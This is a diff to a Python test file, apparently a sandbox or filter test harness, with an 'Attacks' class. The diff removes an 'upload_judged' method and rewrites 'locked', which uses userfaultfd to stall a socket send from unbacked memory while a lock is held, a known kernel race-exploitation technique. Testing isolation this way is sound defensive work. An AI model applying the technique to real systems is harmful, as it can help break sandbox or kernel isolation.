@@ -6,6 +6,7 @@ input.
 """
 import ctypes
 import errno
+import fcntl
 import mmap
 import os
 import select
@@ -241,19 +242,13 @@ class Attacks:
         sock.shutdown(socket.SHUT_WR)
         return f"{way(sock)} {sock.recv(64).decode().strip()}"
 
-    def upload_judged(self):
-        """The same in the very first packet."""
-        return self.upload()
-
     def locked(self):
         """Holds the refused socket's lock: a send from memory that nobody provides."""
         UFFDIO_API, UFFDIO_REGISTER = 0xC018AA3F, 0xC020AA00
-        fault = libc.syscall(323, os.O_CLOEXEC)
-        if fault < 0:
-            device = os.open("/dev/userfaultfd", os.O_RDWR)
-            import fcntl
-            fault = fcntl.ioctl(device, 0xAA00, os.O_CLOEXEC)
-        import fcntl
+        try:
+            fault = fcntl.ioctl(os.open("/dev/userfaultfd", os.O_RDWR), 0xAA00, os.O_CLOEXEC)
+        except OSError:
+            return "no userfaultfd"
         fcntl.ioctl(fault, UFFDIO_API, struct.pack("QQQ", 0xAA, 0, 0))
         memory = mmap.mmap(-1, 1 << 16)
         at = ctypes.addressof(ctypes.c_char.from_buffer(memory))
